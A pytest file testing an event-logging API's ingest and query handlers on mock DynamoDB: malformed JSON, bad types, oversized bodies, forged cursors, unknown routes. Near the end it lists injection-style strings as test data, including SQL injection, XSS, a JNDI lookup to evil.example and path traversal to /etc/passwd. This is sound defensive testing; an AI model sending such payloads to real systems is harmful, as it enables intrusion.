"""Bad input through the real ingest and query handlers, on moto's DynamoDB.

Every refusal is a 4xx (never a 5xx) with a JSON body naming the problem, and nothing refused is
stored. Strings that only look like injections are data: accepted and returned exactly.
"""

from __future__ import annotations

import base64
import json
import os
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

import boto3
import pytest
from moto import mock_aws

from claude_events import codec, dependencies
from claude_events.cursor import CursorCodec
from claude_events.settings import ingest_settings
from local.template import create_table_arguments
from tests.support.handlers import HttpAnswer, call_http, get_events, post_events

MAX_BODY_BYTES = ingest_settings().max_body_bytes
MAX_BATCH_SIZE = ingest_settings().max_batch_size


def valid(**fields: Any) -> dict[str, Any]:
    return {
        "timestamp": "2026-01-26T10:30:00Z",
        "event": "PreToolUse",
        "sessionId": "abc-123",
        "data": {"tool_name": "Bash", "tool_input": {"command": "ls"}},
        **fields,
    }


def without(name: str) -> dict[str, Any]:
    event = valid()
    del event[name]
    return event


def raw_hook(**fields: Any) -> dict[str, Any]:
    return {
        "session_id": "abc-123",
        "hook_event_name": "PostToolUse",
        "cwd": "/home/me/src/shop",
        "tool_name": "Bash",
        "tool_input": {"command": "ls"},
        **fields,
    }


def nested(levels: int) -> dict[str, Any]:
    value: dict[str, Any] = {}
    for _ in range(levels - 1):
        value = {"a": value}
    return value


def text_body(data_json: str) -> str:
    """A prototype event whose data is the given JSON text, spelled exactly."""
    return '{"event":"Stop","sessionId":"abc-123","data":' + data_json + "}"


@dataclass(frozen=True)
class Refusal:
    status: int = 400
    error: str = "validation_error"
    field: str | None = None


def bad(case_id: str, body: Any, field: str | None, status: int = 400, error: str = "validation_error") -> Any:
    return pytest.param(body, Refusal(status, error, field), id=case_id)


def assert_refused(answer: HttpAnswer, expected: Refusal) -> dict[str, Any]:
    assert 400 <= answer.status < 500, answer.body
    assert answer.status == expected.status, answer.body
    assert answer.headers.get("Content-Type") == "application/json"
    body = answer.json()
    assert isinstance(body, dict)
    assert body["error"] == expected.error
    assert isinstance(body["message"], str)
    assert body["message"]
    if expected.error == "validation_error":
        fields = [detail["field"] for detail in body["details"]]
        assert expected.field in fields, fields
        assert body["message"].startswith(f"{fields[0]}: ")
    return body


TABLE = os.environ["EVENTS_TABLE_NAME"]


@pytest.fixture(scope="module")
def dynamodb() -> Iterator[Any]:
    """One moto DynamoDB for the module (a client costs ~0.1 s to make; there are 150+ cases)."""
    with mock_aws():
        dependencies.use_event_store(None)
        client = boto3.client("dynamodb")
        client.create_table(**create_table_arguments("EventsTable", TABLE))
        yield client
    dependencies.use_event_store(None)


@pytest.fixture(autouse=True)
def empty_table(dynamodb) -> Iterator[None]:
    """Every case starts with an empty table."""
    yield
    for page in dynamodb.get_paginator("scan").paginate(TableName=TABLE, ProjectionExpression="pk, sk"):
        for item in page["Items"]:
            dynamodb.delete_item(TableName=TABLE, Key={"pk": item["pk"], "sk": item["sk"]})


@pytest.fixture
def nothing_stored(dynamodb):
    def check() -> None:
        assert dynamodb.scan(TableName=TABLE, Select="COUNT")["Count"] == 0
        history = get_events()
        assert history.status == 200
        assert history.json()["count"] == 0

    return check


INGEST_CASES = [
    # Not JSON, or not an object/array ------------------------------------------------
    bad("malformed-json", '{"event": "Stop", "sessionId": ', "body"),
    bad("trailing-garbage", '{"event":"Stop","sessionId":"abc"} x', "body"),
    bad("single-quotes", "{'event': 'Stop', 'sessionId': 'abc'}", "body"),
    bad("empty-body", "", "body"),
    bad("whitespace-body", " \n\t ", "body"),
    bad("body-string", '"hello"', "body"),
    bad("body-number", "42", "body"),
    bad("body-null", "null", "body"),
    bad("body-true", "true", "body"),
    # Bytes that are not UTF-8, or text that is not Unicode -----------------------------
    bad("invalid-utf8", b'{"event":"Stop","sessionId":"abc","data":{"x":"\xff\xfe"}}', "body"),
    bad("overlong-utf8", b'{"event":"Stop","sessionId":"abc","data":{"x":"\xc0\xaf"}}', "body"),
    bad("utf8-encoded-surrogate", b'{"event":"Stop","sessionId":"abc","data":{"x":"\xed\xa0\x80"}}', "data.x"),
    bad("lone-surrogate-escape", text_body('{"x":"ok \\ud800"}'), "data.x"),
    bad("lone-surrogate-nested", text_body('{"tool_input":{"args":["a","\\udfff"]}}'), "data.tool_input.args[1]"),
    bad("lone-surrogate-key", text_body('{"\\ud800":1}'), "data.'\\ud800'"),
    # Numbers JSON has no room for --------------------------------------------------------
    bad("nan", text_body('{"x":NaN}'), "body"),
    bad("infinity", text_body('{"x":Infinity}'), "body"),
    bad("minus-infinity", text_body('{"x":-Infinity}'), "body"),
    bad("1e400", text_body('{"x":1e400}'), "body"),
    bad("minus-1e400", text_body('{"x":-1e400}'), "body"),
    bad("5000-digit-integer", text_body('{"x":' + "9" * 5000 + "}"), "body"),
    # Wrong types --------------------------------------------------------------------------
    bad("event-number", valid(event=1), "event"),
    bad("event-null", valid(event=None), "event"),
    bad("event-list", valid(event=["PreToolUse"]), "event"),
    bad("sessionId-number", valid(sessionId=123), "sessionId"),
    bad("sessionId-object", valid(sessionId={"id": "abc"}), "sessionId"),
    bad("timestamp-number", valid(timestamp=1_769_423_400), "timestamp"),
    bad("timestamp-bool", valid(timestamp=True), "timestamp"),
    bad("eventId-number", valid(eventId=5), "eventId"),
    bad("data-string", valid(data="tool_name=Bash"), "data"),
    bad("data-list", valid(data=[1, 2]), "data"),
    bad("data-null", valid(data=None), "data"),
    bad("source-string", valid(source="laptop"), "source"),
    bad("source-value-number", valid(source={"machine": 7}), "source.machine"),
    bad("truncated-string", valid(truncated="yes"), "truncated"),
    bad("receivedAt-number", valid(receivedAt=5), "receivedAt"),
    bad("missing-event", without("event"), "event"),
    bad("missing-sessionId", without("sessionId"), "sessionId"),
    bad("raw-session_id-number", raw_hook(session_id=42), "session_id"),
    bad("raw-hook_event_name-null", raw_hook(hook_event_name=None), "hook_event_name"),
    bad("raw-missing-session_id", {"hook_event_name": "Stop", "cwd": "/x"}, "session_id"),
    # Empty and oversize strings ----------------------------------------------------------
    bad("event-empty", valid(event=""), "event"),
    bad("sessionId-empty", valid(sessionId=""), "sessionId"),
    bad("eventId-empty", valid(eventId=""), "eventId"),
    bad("timestamp-empty", valid(timestamp=""), "timestamp"),
    bad("event-65-chars", valid(event="P" + "a" * 64), "event"),
    bad("sessionId-129-chars", valid(sessionId="s" * 129), "sessionId"),
    bad("eventId-129-chars", valid(eventId="e" * 129), "eventId"),
    bad("timestamp-41-chars", valid(timestamp="2026-01-26T10:30:00." + "0" * 20 + "Z"), "timestamp"),
    bad("source-value-257-chars", valid(source={"machine": "m" * 257}), "source.machine"),
    bad("source-17-keys", valid(source={f"k{n}": "v" for n in range(17)}), "source"),
    # Control characters, spaces, odd Unicode in identifiers --------------------------------
    bad("sessionId-newline", valid(sessionId="abc\n"), "sessionId"),
    bad("sessionId-nul", valid(sessionId="abc\x00def"), "sessionId"),
    bad("sessionId-tab", valid(sessionId="abc\tdef"), "sessionId"),
    bad("sessionId-space", valid(sessionId="abc def"), "sessionId"),
    bad("sessionId-leading-space", valid(sessionId=" abc"), "sessionId"),
    bad("sessionId-rtl-override", valid(sessionId="abc\u202edef"), "sessionId"),
    bad("sessionId-zero-width", valid(sessionId="abc\u200bdef"), "sessionId"),
    bad("sessionId-emoji", valid(sessionId="abc😀"), "sessionId"),
    bad("sessionId-fullwidth", valid(sessionId="ａｂｃ"), "sessionId"),
    bad("event-nul", valid(event="Pre\x00ToolUse"), "event"),
    bad("event-space", valid(event="Pre ToolUse"), "event"),
    bad("event-trailing-newline", valid(event="PreToolUse\n"), "event"),
    bad("event-zero-width", valid(event="Pre\u200bToolUse"), "event"),
    bad("event-emoji", valid(event="PreToolUse😀"), "event"),
    bad("event-lowercase", valid(event="preToolUse"), "event"),
    bad("eventId-crlf", valid(eventId="id\r\n"), "eventId"),
    bad("eventId-space", valid(eventId="id 1"), "eventId"),
    bad("eventId-rtl-override", valid(eventId="id\u202e1"), "eventId"),
    bad("eventId-emoji", valid(eventId="😀"), "eventId"),
    bad("eventId-nul", valid(eventId="id\x00"), "eventId"),
    bad("eventId-slash", valid(eventId="a/b"), "eventId"),
    bad("raw-session_id-rtl", raw_hook(session_id="abc\u202e"), "session_id"),
    # Nesting ----------------------------------------------------------------------------------
    bad("data-one-level-too-deep", valid(data=nested(codec.MAX_DEPTH + 1)), "data"),
    bad("data-5000-levels", text_body('{"a":' * 4999 + "{}" + "}" * 4999), "data"),
    bad("data-100000-levels", text_body('{"a":' * 100_000 + "1" + "}" * 100_000), "body"),
    bad("body-100000-list-levels", "[" * 100_000 + "]" * 100_000, "body"),
    bad("raw-hook-deep-tool_input", raw_hook(tool_input=nested(codec.MAX_DEPTH + 5)), "data"),
    # Timestamps -------------------------------------------------------------------------------
    bad("timestamp-garbage", valid(timestamp="not a timestamp"), "timestamp"),
    bad("timestamp-month-13", valid(timestamp="2026-13-01T10:30:00Z"), "timestamp"),
    bad("timestamp-hour-25", valid(timestamp="2026-01-26T25:30:00Z"), "timestamp"),
    bad("timestamp-date-only", valid(timestamp="2026-01-26"), "timestamp"),
    bad("timestamp-digits-as-text", valid(timestamp="1769423400000"), "timestamp"),
    bad("timestamp-before-1970", valid(timestamp="1969-12-31T23:59:59Z"), "timestamp"),
    bad("timestamp-year-9999-negative-offset", valid(timestamp="9999-12-31T23:00:00-05:00"), "timestamp"),
    bad("timestamp-arabic-digits", valid(timestamp="٢٠٢٦-01-26T10:30:00Z"), "timestamp"),
    # Batches ----------------------------------------------------------------------------------
    bad("batch-empty-events", {"events": []}, "events"),
    bad("batch-empty-array", [], "events"),
    bad("batch-101-events", {"events": [valid(eventId=f"e{n}") for n in range(MAX_BATCH_SIZE + 1)]}, "events"),
    bad("batch-101-array", [valid(eventId=f"e{n}") for n in range(MAX_BATCH_SIZE + 1)], "events"),
    bad(
        "batch-one-bad-sessionId",
        [valid(eventId=f"e{n}") for n in range(3)] + [valid(sessionId="a b")],
        "events[3].sessionId",
    ),
    bad("batch-one-bad-raw", {"events": [raw_hook(), raw_hook(session_id=""), raw_hook()]}, "events[1].session_id"),
    bad("batch-non-object", {"events": [valid(), valid(), "PreToolUse"]}, "events[2]"),
    bad("batch-bad-timestamp", [valid(timestamp="2026-02-30T00:00:00Z"), valid()], "events[0].timestamp"),
    bad("batch-too-deep", [valid(), valid(data=nested(codec.MAX_DEPTH + 1))], "events[1].data"),
    bad(
        "batch-lone-surrogate",
        '{"events":[' + json.dumps(valid()) + "," + text_body('{"x":"\\ud800"}') + "]}",
        "events[1].data.x",
    ),
    bad("batch-extra-field-in-event", [valid(), valid(unexpected=1)], "events[1].unexpected"),
    bad("extra-top-level-field", valid(unexpected="x"), "unexpected"),
    bad("extra-field-beside-events", {"events": [valid()], "apiKey": "x"}, "apiKey"),
    bad("both-event-and-hook_event_name", valid(hook_event_name="Stop"), "hook_event_name"),
    bad("events-object", {"events": {"0": valid()}}, "events"),
    bad("events-string", {"events": "PreToolUse"}, "events"),
    bad("events-null", {"events": None}, "events"),
    # Too large --------------------------------------------------------------------------------
    bad("body-over-limit-json", valid(data={"prompt": "x" * MAX_BODY_BYTES}), None, 413, "payload_too_large"),
    bad("body-over-limit-garbage", b"\xff" * (MAX_BODY_BYTES + 1), None, 413, "payload_too_large"),
]


@pytest.mark.parametrize(("body", "expected"), INGEST_CASES)
def test_bad_post_is_refused_and_nothing_is_stored(body, expected, nothing_stored):
    # GIVEN a bad request body
    # WHEN it is posted to the ingest handler
    answer = post_events(body)

    # THEN it is refused with a 4xx naming the problem, and nothing is stored
    assert_refused(answer, expected)
    nothing_stored()


def test_too_large_answer_states_the_limit(nothing_stored):
    answer = post_events("x" * (MAX_BODY_BYTES + 1))

    body = assert_refused(answer, Refusal(413, "payload_too_large"))
    assert body["limit"] == MAX_BODY_BYTES
    assert str(MAX_BODY_BYTES) in body["message"]
    nothing_stored()


def test_every_bad_event_of_a_batch_is_named():
    # GIVEN a batch with problems in two events
    answer = post_events([valid(), valid(sessionId=""), valid(), valid(event=5, timestamp="x")])

    # THEN each problem names its event and field
    fields = {detail["field"] for detail in assert_refused(answer, Refusal(field="events[1].sessionId"))["details"]}
    assert fields == {"events[1].sessionId", "events[3].event", "events[3].timestamp"}


def test_the_limits_themselves_are_accepted():
    # GIVEN a body of exactly the size limit, a batch of the most events, the deepest data
    at_limit = valid(data={"prompt": ""})
    at_limit["data"]["prompt"] = "x" * (MAX_BODY_BYTES - len(json.dumps(at_limit)))
    assert len(json.dumps(at_limit).encode()) == MAX_BODY_BYTES
    full_batch = [valid(eventId=f"e{n}") for n in range(MAX_BATCH_SIZE)]
    deepest = valid(eventId="deep", data=nested(codec.MAX_DEPTH))

    # THEN each is stored
    assert post_events(at_limit).status == 201
    assert post_events(full_batch).status == 201
    assert post_events(deepest).status == 201
    assert get_events("limit=1000").json()["count"] == 1 + MAX_BATCH_SIZE + 1


# Query parameters -------------------------------------------------------------------------

QUERY_CASES = [
    pytest.param("limit=0", "limit", id="limit-0"),
    pytest.param("limit=1001", "limit", id="limit-1001"),
    pytest.param("limit=abc", "limit", id="limit-abc"),
    pytest.param("limit=-1", "limit", id="limit-minus-1"),
    pytest.param("limit=", "limit", id="limit-empty"),
    pytest.param("limit=1.5", "limit", id="limit-fraction"),
    pytest.param("limit=99999999999999999999999", "limit", id="limit-huge"),
    pytest.param("since=garbage", "since", id="since-garbage"),
    pytest.param("since=2026-01-26", "since", id="since-date-only"),
    pytest.param("until=2026-13-01T00:00:00Z", "until", id="until-month-13"),
    pytest.param("until=1969-12-31T23:59:59Z", "until", id="until-before-1970"),
    pytest.param("since=9999-12-31T23:00:00-05:00", "since", id="since-out-of-range"),
    pytest.param("since=2026-01-26T10:00:00Z&until=2026-01-26T10:00:00Z", "since", id="since-equals-until"),
    pytest.param("since=2026-01-26T11:00:00Z&until=2026-01-26T10:00:00Z", "since", id="since-after-until"),
    pytest.param("foo=1", "foo", id="unknown-param"),
    pytest.param("sessionid=abc", "sessionid", id="param-wrong-case"),
    pytest.param("sessionId=abc%20def", "sessionId", id="sessionId-space"),
    pytest.param("sessionId=abc%0A", "sessionId", id="sessionId-trailing-newline"),
    pytest.param("sessionId=abc%00", "sessionId", id="sessionId-nul"),
    pytest.param("sessionId=%E2%80%AEabc", "sessionId", id="sessionId-rtl-override"),
    pytest.param("sessionId=", "sessionId", id="sessionId-empty"),
    pytest.param("sessionId=" + "s" * 129, "sessionId", id="sessionId-129-chars"),
    pytest.param("sessionId=" + quote("x' OR '1'='1"), "sessionId", id="sessionId-sql"),
    pytest.param("event=preToolUse", "event", id="event-lowercase"),
    pytest.param("event=" + quote("#pk = :v"), "event", id="event-expression-syntax"),
    pytest.param("event=" + ",".join(f"E{n}" for n in range(21)), "event", id="event-21-names"),
    pytest.param("event=", "event", id="event-empty"),
    pytest.param("cursor=", "cursor", id="cursor-empty"),
    pytest.param("cursor=garbage", "cursor", id="cursor-garbage"),
    pytest.param("cursor=a.b", "cursor", id="cursor-not-ours"),
    pytest.param("cursor=" + "A" * 2000 + ".B", "cursor", id="cursor-too-long"),
]


@pytest.mark.parametrize(("query", "field"), QUERY_CASES)
def test_bad_query_is_refused(query, field):
    # WHEN history is asked for with a bad parameter
    answer = get_events(query)

    # THEN the parameter is named in a 400
    assert_refused(answer, Refusal(field=field))


@pytest.fixture
def cursor_of_session_a():
    """A real cursor: session a has three events, read one at a time."""
    posted = [valid(sessionId="a", eventId=f"e{n}", timestamp=f"2026-01-26T10:30:0{n}Z") for n in range(3)]
    assert post_events(posted).status == 201
    cursor = get_events("sessionId=a&limit=1").json()["nextCursor"]
    assert cursor
    assert get_events(f"sessionId=a&limit=1&cursor={cursor}").status == 200
    return cursor


def cursor_fields(cursor: str) -> dict[str, Any]:
    payload = cursor.split(".", 1)[0]
    return json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))  # type: ignore[no-any-return]


def forged(cursor: str) -> str:
    """The same position and query, signed with a key that is not the server's."""
    fields = cursor_fields(cursor)
    return CursorCodec(b"not-the-servers-key").encode(fields["p"], fields["q"])


def tampered(cursor: str) -> str:
    """The position edited, the server's MAC kept."""
    mac = cursor.split(".")[1]
    fields = cursor_fields(cursor)
    fields["p"] = "2099-01-01T00:00:00.000000Z#zzz"
    edited = base64.urlsafe_b64encode(json.dumps(fields, separators=(",", ":")).encode()).rstrip(b"=").decode()
    return f"{edited}.{mac}"


@pytest.mark.parametrize(
    ("make_query", "message"),
    [
        pytest.param(lambda cursor: f"sessionId=a&cursor={forged(cursor)}", "not a cursor", id="forged"),
        pytest.param(lambda cursor: f"sessionId=a&cursor={tampered(cursor)}", "not a cursor", id="tampered"),
        pytest.param(lambda cursor: f"sessionId=a&cursor={cursor[:-2]}", "not a cursor", id="cut-short"),
        pytest.param(lambda cursor: f"sessionId=b&cursor={cursor}", "other filters", id="other-session"),
        pytest.param(lambda cursor: f"cursor={cursor}", "other filters", id="no-session"),
        pytest.param(lambda cursor: f"sessionId=a&event=Stop&cursor={cursor}", "other filters", id="other-event"),
        pytest.param(
            lambda cursor: f"sessionId=a&since=2026-01-01T00:00:00Z&cursor={cursor}", "other filters", id="other-since"
        ),
    ],
)
def test_bad_cursor_is_refused(cursor_of_session_a, make_query, message):
    # WHEN a cursor is forged, edited, or reused with other filters
    answer = get_events(make_query(cursor_of_session_a))

    # THEN it is a clean 400 naming the cursor
    body = assert_refused(answer, Refusal(field="cursor"))
    assert message in body["message"]


# Routes -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("function", "method", "path"),
    [
        ("query", "GET", "/api/nope"),
        ("query", "DELETE", "/api/claude-events"),
        ("query", "GET", "/api/claude-events/extra"),
        ("ingest", "GET", "/api/claude-events"),
        ("ingest", "POST", "/api/claude-events/../admin"),
        ("ingest", "PUT", "/api/claude-events"),
    ],
)
def test_unknown_route_is_a_json_404(function, method, path, nothing_stored):
    answer = call_http(function, method, path, body=json.dumps(valid()), headers={"content-type": "application/json"})

    body = assert_refused(answer, Refusal(404, "not_found"))
    assert method in body["message"]
    nothing_stored()


# Strings that look like attacks are data ----------------------------------------------------

INJECTION_LOOKALIKES = [
    "'; DROP TABLE events; --",
    '" OR 1=1 --',
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "#pk = :v",
    "attribute_not_exists(pk) OR begins_with(#sk, :prefix)",
    "SET #a = :b REMOVE c",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}${7*7}",
    "../../../../etc/passwd",
    "%s%s%s%n",
    "\\u0000\\ud800",
    '{"$where": "sleep(1000)"}',
    "__proto__",
]


@pytest.mark.parametrize("text", INJECTION_LOOKALIKES)
def test_injection_lookalikes_in_data_round_trip(text):
    # GIVEN an event whose data holds the string as a value, a key, and deep inside tool_input
    data = {
        "prompt": text,
        text: text,
        "tool_input": {"command": text, "args": [text, {text: [text]}]},
        "cwd": f"/home/me/{text}",
    }
    posted = valid(sessionId="inject-1", data=data)

    # WHEN it is posted and read back
    created = post_events(posted)
    listed = get_events("sessionId=inject-1")

    # THEN it was accepted and comes back exactly
    assert created.status == 201, created.body
    assert json.dumps(created.json()["event"]["data"]) == json.dumps(data)
    assert listed.status == 200
    [stored] = listed.json()["events"]
    assert json.dumps(stored["data"]) == json.dumps(data)


@pytest.mark.parametrize("session_id", ["a:b=c/d+e@f.g_h", "user@example.com/laptop", "x=1+y=2"])
def test_session_ids_with_allowed_punctuation_round_trip(session_id):
    created = post_events(valid(sessionId=session_id))
    listed = get_events(f"sessionId={quote(session_id, safe='')}")

    assert created.status == 201, created.body
    assert [event["sessionId"] for event in listed.json()["events"]] == [session_id]
